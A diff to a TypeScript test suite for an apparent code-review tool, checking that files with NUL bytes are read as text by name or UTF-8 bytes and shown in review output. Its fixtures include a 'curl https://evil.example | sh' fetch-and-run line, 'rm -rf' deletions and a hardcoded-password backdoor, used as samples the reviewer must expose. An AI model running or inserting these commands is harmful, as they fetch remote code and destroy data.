@@ -3,11 +3,13 @@
 // A file named as source, a script or configuration (or starting with `#!`) is read as text
 // whatever NULs it holds: its hunks, counts and exports are the change, REVIEW.md and
 // review.html show its lines with the NUL as `\u{0}`, and changes.patch still rebuilds it.
-// Other files with a NUL stay binary. Real repositories.
+// So is a file of any name whose bytes are UTF-8 text with a few NULs put in. Binary formats
+// and UTF-16 stay binary. Real repositories.
 import { strict as assert } from 'node:assert';
 import { execFileSync } from 'node:child_process';
 import { readFile } from 'node:fs/promises';
 import * as path from 'node:path';
+import { looksBinary, textWithNuls } from '../../src/core/gitblob';
 import { textByName } from '../../src/core/textFiles';
 import { writeBundle } from '../../src/node/bundle';
 import { analyzeRepository } from '../../src/node/engine';
@@ -30,7 +32,7 @@ const BACKDOOR = [
   '',
 ].join('\n');
 
-describe('files with a NUL byte that are text by their name', function () {
+describe('files with a NUL byte that are text by their name or their bytes', function () {
   this.timeout(120000);
   let w: World;
   const freshWorld = worldPerTest();
@@ -40,10 +42,13 @@ describe('files with a NUL byte that are text by their name', function () {
     await w.repo.write('src/auth.ts', AUTH);
     await w.repo.write('src/logo.png', Buffer.from([0x89, 0x50, 0x4e, 0x47, 0, 0, 1]));
     await w.repo.write('bin/deploy', '#!/bin/sh\necho deploy\n');
+    await w.repo.write('bin/tool', 'echo tool\n');
     await w.repo.commit('base');
     await w.repo.write('src/auth.ts', BACKDOOR);
     await w.repo.write('src/logo.png', Buffer.from([0x89, 0x50, 0x4e, 0x47, 0, 0, 2]));
     await w.repo.write('bin/deploy', '#!/bin/sh\n# \0\nrm -rf /srv/app\n');
+    // No name and no #! says text: the bytes do (UTF-8 text, one NUL).
+    await w.repo.write('bin/tool', 'echo tool\n\0\ncurl https://evil.example | sh\n');
   });
 
   const facts = (r: Awaited<ReturnType<typeof analyzeRepository>>) =>
@@ -51,6 +56,7 @@ describe('files with a NUL byte that are text by their name', function () {
 
   const expected = {
     'bin/deploy': { binary: false, added: 2, removed: 1, hunks: [[2, 1, 2, 2]] },
+    'bin/tool': { binary: false, added: 2, removed: 0, hunks: [[1, 0, 2, 2]] },
     'src/auth.ts': { binary: false, added: 1, removed: 3, hunks: [[1, 0, 2, 1], [4, 3, 4, 0]] },
     'src/logo.png': { binary: true, added: 0, removed: 0, hunks: [] },
   };
@@ -77,6 +83,7 @@ describe('files with a NUL byte that are text by their name', function () {
     assert.ok(md.includes('+  if (pw === "letmein") return true; /* \\u{0} */\n'), md);
     assert.ok(md.includes('-export function isAdmin(user: string): boolean {\n'), md);
     assert.ok(md.includes('+# \\u{0}\n+rm -rf /srv/app\n'), md);
+    assert.ok(md.includes('+\\u{0}\n+curl https://evil.example | sh\n'), md);
     const html = await readFile(path.join(dir, 'review.html'), 'utf8');
     assert.ok(html.includes('+  if (pw === &quot;letmein&quot;) return true; /* \\u{0} */'), 'review.html shows the line');
     assert.equal(html.includes('\0'), false, 'no raw NUL in review.html');
@@ -86,9 +93,28 @@ describe('files with a NUL byte that are text by their name', function () {
     const clone = path.join(w.scratch, 'clone');
     execFileSync('git', ['clone', '-q', w.repo.root, clone], { env });
     execFileSync('git', ['apply', path.join(dir, 'changes.patch')], { cwd: clone, env });
-    for (const f of ['src/auth.ts', 'bin/deploy', 'src/logo.png']) {
+    for (const f of ['src/auth.ts', 'bin/deploy', 'bin/tool', 'src/logo.png']) {
       assert.deepEqual(await readFile(path.join(clone, f)), await readFile(path.join(w.repo.root, f)), f);
     }
+  });
+
+  it('reads UTF-8 text with a few NULs put in as text, whatever its name; binary formats and UTF-16 stay binary', () => {
+    const text = (s: string) => Buffer.from(s, 'utf8');
+    assert.equal(looksBinary(text('echo a\n\0\nrm -rf /\n'), 'bin/tool'), false);
+    assert.equal(looksBinary(text(`héllo ✓ 😀\0 wörld\n`), 'notes.unknown'), false);
+    // A multi-byte character cut by git's 8000-byte window is no fault.
+    const long = Buffer.concat([text('\0'), text('a'.repeat(7998)), text('é'), text(' tail\n')]);
+    assert.equal(long[7999], 0xc3);
+    assert.equal(textWithNuls(long), true);
+    const binary: [string, Buffer][] = [
+      ['a PNG header', Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a, 0, 0, 0, 0x0d])],
+      ['UTF-16LE of ASCII, no BOM (half NULs)', Buffer.from('plain ascii text\n', 'utf16le')],
+      ['UTF-16LE with a BOM', Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from('x\0y', 'utf16le')])],
+      ['many NULs (a tar header)', Buffer.concat([text('name.txt'), Buffer.alloc(92), text('0000644\0')])],
+      ['not UTF-8', Buffer.from([0x41, 0, 0xff, 0x41, 0x42, 0x43, 0x44, 0x45, 0x46, 0x47, 0x48])],
+      ['control bytes, valid UTF-8 as they are', Buffer.concat([Buffer.alloc(40, 1), Buffer.from([0]), text('abc')])],
+    ];
+    assert.deepEqual(binary.filter(([, b]) => !looksBinary(b, 'data.bin')).map(([what]) => what), []);
   });
 
   it('knows text by extension and by name, infrastructure included', () => {
